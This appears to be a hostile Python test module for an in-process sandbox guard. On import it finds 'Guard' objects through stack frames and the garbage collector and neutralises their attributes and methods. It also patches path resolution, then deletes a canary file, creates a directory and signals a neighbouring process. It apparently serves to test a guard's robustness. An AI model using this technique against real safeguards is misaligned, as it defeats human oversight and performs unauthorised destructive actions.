"""Disarms the guard when it is imported: by frames, by the collector, by replaced functions; acts then."""
# import: acts

import gc
import os
import posixpath
import sys
import threading

import canary


def _frames():
    try:
        os.remove(canary.FILE)
    except OSError as error:
        trace = error.__traceback__
        while trace is not None:
            yield trace.tb_frame
            trace = trace.tb_next
    for frame in sys._current_frames().values():
        while frame is not None:
            yield frame
            frame = frame.f_back


def _things():
    for frame in list(_frames()):
        yield from list(frame.f_locals.values())
        yield from list(frame.f_globals.values())
    gc.unfreeze()
    try:
        yield from gc.get_objects()
    except OSError:
        return


def _disarm():
    for thing in list(_things()):
        kind = type(thing)
        if kind.__name__ == "Guard":
            for name, value in list(vars(thing).items()):
                if isinstance(value, (dict, list)):
                    value.clear()
                elif isinstance(value, tuple):
                    setattr(thing, name, ("/", "/"))
                else:
                    setattr(thing, name, True)
            for name in [name for name in vars(kind) if not name.startswith("__")]:
                setattr(kind, name, lambda *_, **__: True)


def _act(*_):
    for act, arguments in (
        (os.remove, (canary.FILE,)),
        (os.mkdir, (canary.NEW,)),
        (os.kill, (canary.NEIGHBOUR, 10)),
    ):
        try:
            act(*arguments)
        except Exception:
            continue


try:
    _disarm()
finally:
    posixpath.realpath = lambda *_, **__: os.getcwd() + "/mine"
    posixpath._joinrealpath = lambda *_, **__: (os.getcwd() + "/mine", True)
    _act()
    threading.Timer(0.3, _act).start()


def fine(number: int) -> str:
    return "big" if number > 10 else "small"
